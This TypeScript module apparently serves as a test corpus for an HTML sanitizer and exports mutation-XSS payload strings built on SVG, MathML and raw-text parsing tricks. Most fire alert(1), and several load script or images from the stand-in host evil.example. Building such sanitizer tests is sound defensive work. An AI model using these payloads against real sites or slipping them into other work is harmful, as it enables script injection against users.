/**
 * Markup that one parser reads in another way than the next: SVG, MathML and elements of raw text, whose content changes
 * its meaning when it is written and read again. Written for this project after published research on mutation XSS
 * (Heiderich et al. 2013, Bentkowski 2019 and 2020) and the families in DOMPurify's tests.
 */

/** Elements whose content is text to one parser and elements to another. */
const rawElements =
  "style title textarea noscript xmp iframe noembed noframes script template".split(" ");

/** Doors from HTML into other markup and back. */
const doors = [
  "<svg>",
  "<math>",
  "<svg></p>",
  "<math></br>",
  "<svg><foreignObject>",
  "<svg><desc>",
  "<svg><title>",
  "<math><mtext>",
  "<math><mi><mglyph>",
  "<math><annotation-xml encoding='text/html'>",
];

const throughDoors = doors.flatMap((door, index) =>
  rawElements
    .filter((_, at) => (at + index) % 2 === 0)
    .map((raw) => `${door}<${raw}><p title="</${raw}><img src=x onerror=alert(1)>"></${raw}>`),
);

const tricks = [
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=//evil.example/x.js /></svg>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>字</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>字</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=alert(1) /><rect width=99 height=99 /></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><use href=//evil.example/x.svg#x /></svg>",
  "<svg><image href=//evil.example/x.png /><feImage href=//evil.example/y.png /></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>",
  "<svg><style><img/src=x onerror=alert(1)// </b>",
  "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
  "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=alert(1)//'></svg>",
  "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
  "<p><svg><p><style><g title='</style><img src onerror=alert(1)>'>",
  "<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>",
  "<svg></p><title><template><style></title><img src=x onerror=alert(1)>",
  "<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title='&lt;/style>&lt;img src onerror=alert(1)>'>",
  "<svg><b><p><style><!--</style><img src=x onerror=alert(1)>-->",
  "<svg><desc><svg><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<svg xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></svg>",
  "<math><mtext></mtext><mi xlink:href=javascript:alert(1)>字</mi></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>字<mtext>x</mtext></maction></math>",
  "<math><mstyle mathbackground='url(//evil.example/x)' style='x' onclick=alert(1)>字</mstyle></math>",
  "<math href=javascript:alert(1)>字</math>",
  "<math><x href=javascript:alert(1)><mi>字</mi></x></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><mtext><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>字</math>",
  "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></style></h1>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
  "<math><annotation-xml encoding='application/xhtml+xml'><svg><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>",
  "<select><iframe></select><img src=x onerror=alert(1)>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
  "<table><svg><style><a title='</style><img src=x onerror=alert(1)>'></table>",
  "<table><caption><svg><title><table><style></title><img src=x onerror=alert(1)>",
  "<table><tr><script>alert(1)</script><td>字</table>",
  "<a href=/1><table><td><a href=/2><b><p></b></a></table></a>",
  "<b><a><b><a><p><table><a><td><svg></b><style><img src=x onerror=alert(1)>",
  "<p><i><b><u><p></i><svg></b></u><style><!--</style><img src=x onerror=alert(1)>-->",
  "<p id='</p><img src=x onerror=alert(1)>'><svg id='\"><img src=x onerror=alert(1)>'>",
  "<b><style><style/><img src=x onerror=alert(1)>",
  "<xmp><svg><b><style><b title='</style><img src=x onerror=alert(1)>'>",
  "<noembed><svg><b><style><b title='</style><img src=x onerror=alert(1)>'>",
  "<template><s><template><s><img src=x onerror=alert(1)>字</s></template></s></template>",
  "<body><template><svg><style></template><img src=x onerror=alert(1)>",
  "<pre>\n\n<img src=x onerror=alert(1)></pre><textarea>\n<img src=x onerror=alert(1)></textarea>",
  "<listing>\n<svg><style><img src=x onerror=alert(1)></listing>",
  "<frameset><svg><style></frameset><img src=x onerror=alert(1)>",
  "<ruby><rtc><svg><style><rt title='</style><img src=x onerror=alert(1)>'>",
  `${"<div>".repeat(520)}<svg><style><a title='</style><img src=x onerror=alert(1)>'>`,
  `${"<b>".repeat(40)}<table>${"<a href=/x>".repeat(20)}<svg><style><!--</style><img src=x onerror=alert(1)>-->`,
];

export const mutations: readonly string[] = [...throughDoors, ...tricks];
